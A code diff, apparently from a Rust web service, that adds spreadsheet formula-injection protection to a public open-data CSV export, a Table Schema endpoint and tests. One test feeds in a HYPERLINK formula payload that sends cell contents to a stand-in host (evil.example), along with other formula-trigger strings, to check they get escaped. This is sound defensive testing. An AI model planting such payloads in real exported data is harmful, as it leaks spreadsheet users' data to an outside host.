@@ -1,7 +1,10 @@
 //! The public observatory (DESIGN §12): `/observatoire` (a table, cards on phones), its open
-//! data `/observatoire.csv` and `/observatoire.json`, and a démarche's public page
-//! `/Demarches/{id}` (no key). The same for every visitor: no session is read, no cookie set,
-//! and a CDN may keep every answer (`s-maxage`, a strong `ETag`, 304 on revalidation).
+//! data `/observatoire.csv` (described by `/observatoire.schema.json`) and `/observatoire.json`,
+//! and a démarche's public page `/Demarches/{id}` (no key). The same for every visitor: no
+//! session is read, no cookie set, and a CDN may keep every answer (`s-maxage`, a strong
+//! `ETag`, 304 on revalidation).
+
+use std::sync::LazyLock;
 
 use axum::http::{header, HeaderMap, HeaderValue, StatusCode};
 use axum::response::{IntoResponse, Response};
@@ -14,6 +17,8 @@ use super::demarche::{score_badge, thousands};
 use super::{Id, Params};
 use crate::console::chart::{buckets, trend_svg, Grain, Readers};
 use crate::console::observatory::{listed, Column, Entry, Filter, Snapshot, Sort, Status, Window};
+use crate::console::open_data::{table_schema, CSV_COLUMNS};
+use crate::console::spreadsheet::{neutralise, starts_formula};
 use crate::console::store::{Criteria, EnLigne};
 use crate::console::{Answer, Ctx, Problem};
 use crate::stats::{Counts, MIN_AVIS_FOR_SCORE};
@@ -271,7 +276,8 @@ pub async fn observatoire_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<Ob
     Ok(cacheable(&headers, "text/html; charset=utf-8", markup.into_string().into_bytes()))
 }
 
-/// One row of the open data (column names are stable: README documents them).
+/// One row of the open data (column names are stable: README documents them). The JSON gives its
+/// fields verbatim, for programs; the CSV goes through [`csv_cells`].
 #[derive(Serialize)]
 struct DataRow<'a> {
     demarche_id: i64,
@@ -330,6 +336,41 @@ fn data_rows<'a>(ctx: &Ctx, snap: &'a Snapshot, entries: &[&'a Entry]) -> Vec<Da
         .collect()
 }
 
+/// A row as CSV cells, in the order of [`CSV_COLUMNS`]. Every cell goes through
+/// [`neutralise`], so none begins with a character a spreadsheet reads as a formula (DESIGN §12):
+/// text cells (name, administration, address) get a leading `'` when they need one. Numbers never
+/// do: ids of listed démarches are positive, a negative declared volume reads as undeclared,
+/// counts are sums of votes, indexes lie in 0–10 and autonomy in 0–100 (so they keep their
+/// Table Schema type). Numbers read as in the JSON (`8.33`, `5.0`).
+fn csv_cells(r: &DataRow) -> [String; CSV_COLUMNS.len()] {
+    fn opt<T: std::fmt::Display>(v: Option<T>) -> String {
+        v.map(|v| v.to_string()).unwrap_or_default()
+    }
+    // `{:?}` of an f64 is its shortest exact form with at least one decimal, as serde writes it.
+    let number = |v: Option<f64>| v.map(|v| format!("{v:?}")).unwrap_or_default();
+    [
+        r.demarche_id.to_string(),
+        r.nom.to_string(),
+        r.administration.to_string(),
+        opt(r.volume_annuel),
+        r.nombre_avis.to_string(),
+        r.statut.to_string(),
+        number(r.satisfaction_indice),
+        number(r.facilite_indice),
+        number(r.clarte_indice),
+        number(r.autonomie_pct),
+        opt(r.realisable_en_ligne),
+        opt(r.franceconnect),
+        opt(r.compatible_mobile),
+        opt(r.support_qualite),
+        opt(r.disponibilite),
+        r.periode_debut.clone(),
+        r.periode_fin.clone(),
+        r.page_url.clone(),
+    ]
+    .map(|cell| if starts_formula(&cell) { neutralise(&cell) } else { cell })
+}
+
 /// `GET /observatoire.csv`: UTF-8, comma-separated, one header line (the same filters as the
 /// page; sorted by id).
 pub async fn csv_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) -> Answer {
@@ -340,12 +381,9 @@ pub async fn csv_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) 
         v
     };
     let mut w = csv::Writer::from_writer(Vec::new());
+    w.write_record(CSV_COLUMNS).map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?;
     for row in data_rows(&ctx, &snap, &entries) {
-        w.serialize(row).map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?;
-    }
-    // Without any row, serialize writes no header: open data users still get the columns.
-    if entries.is_empty() {
-        w.write_record(CSV_COLUMNS).map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?;
+        w.write_record(csv_cells(&row)).map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?;
     }
     let body = w.into_inner().map_err(|e| anyhow::anyhow!("observatoire.csv: {e}"))?;
     let mut res = cacheable(&headers, "text/csv; charset=utf-8", body);
@@ -354,27 +392,19 @@ pub async fn csv_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) 
     Ok(res)
 }
 
-/// The CSV's columns, in order (those of [`DataRow`]).
-pub const CSV_COLUMNS: [&str; 18] = [
-    "demarche_id",
-    "nom",
-    "administration",
-    "volume_annuel",
-    "nombre_avis",
-    "statut",
-    "satisfaction_indice",
-    "facilite_indice",
-    "clarte_indice",
-    "autonomie_pct",
-    "realisable_en_ligne",
-    "franceconnect",
-    "compatible_mobile",
-    "support_qualite",
-    "disponibilite",
-    "periode_debut",
-    "periode_fin",
-    "page_url",
-];
+/// The Table Schema's bytes, made once.
+static SCHEMA: LazyLock<Vec<u8>> = LazyLock::new(|| {
+    // A `Value` of strings and numbers always serializes.
+    serde_json::to_vec_pretty(&table_schema()).unwrap_or_default()
+});
+
+/// `GET /observatoire.schema.json`: the frictionless Table Schema of the CSV's columns (types,
+/// French titles and descriptions, constraints), cached like the CSV.
+pub async fn schema_get(headers: HeaderMap) -> Response {
+    let mut res = cacheable(&headers, "application/json", SCHEMA.clone());
+    res.headers_mut().insert("access-control-allow-origin", HeaderValue::from_static("*"));
+    res
+}
 
 /// `GET /observatoire.json`: `{periode_debut, periode_fin, seuil_avis, demarches: [...]}`.
 pub async fn json_get(ctx: Ctx, headers: HeaderMap, Params(q): Params<ObsQuery>) -> Answer {
@@ -495,6 +525,61 @@ pub async fn public_get(ctx: Ctx, headers: HeaderMap, Id(id): Id) -> Answer {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn data_row<'a>(nom: &'a str, administration: &'a str) -> DataRow<'a> {
+        DataRow {
+            demarche_id: 12,
+            nom,
+            administration,
+            volume_annuel: Some(900_000),
+            nombre_avis: 120,
+            statut: "publie",
+            satisfaction_indice: Some(8.33),
+            facilite_indice: Some(5.0),
+            clarte_indice: None,
+            autonomie_pct: Some(100.0),
+            realisable_en_ligne: Some("partiel"),
+            franceconnect: Some("oui"),
+            compatible_mobile: Some("non"),
+            support_qualite: None,
+            disponibilite: None,
+            periode_debut: "2025-12-02".into(),
+            periode_fin: "2026-12-01".into(),
+            page_url: "https://avis.example.fr/Demarches/12".into(),
+        }
+    }
+
+    /// The CSV cell of each column is the JSON value of the field of that name: the cells cannot
+    /// come out in another order than the header (nor the JSON's names drift from the CSV's).
+    #[test]
+    fn csv_cells_follow_the_columns() {
+        let row = data_row("Carte grise", "ANTS");
+        let json: serde_json::Value = serde_json::to_value(&row).unwrap();
+        assert_eq!(json.as_object().unwrap().len(), CSV_COLUMNS.len());
+        for (column, cell) in CSV_COLUMNS.iter().zip(csv_cells(&row)) {
+            let expected = match &json[column] {
+                serde_json::Value::Null => String::new(),
+                serde_json::Value::String(s) => s.clone(),
+                v => v.to_string(),
+            };
+            assert_eq!(cell, expected, "{column}");
+        }
+    }
+
+    #[test]
+    fn csv_text_cells_are_never_formulas() {
+        for evil in
+            ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez ici\")", "+33", "-x", "@SUM(A1)", "\tx", "\rx"]
+        {
+            let cells = csv_cells(&data_row(evil, evil));
+            assert_eq!(cells[1], format!("'{evil}"));
+            assert_eq!(cells[2], format!("'{evil}"));
+            assert!(cells.iter().all(|c| !starts_formula(c)), "{cells:?}");
+        }
+        // The JSON keeps them verbatim.
+        let json = serde_json::to_value(data_row("=1+1", "+ANTS")).unwrap();
+        assert_eq!((json["nom"].as_str(), json["administration"].as_str()), (Some("=1+1"), Some("+ANTS")));
+    }
 
     #[test]
     fn links_leave_defaults_out() {
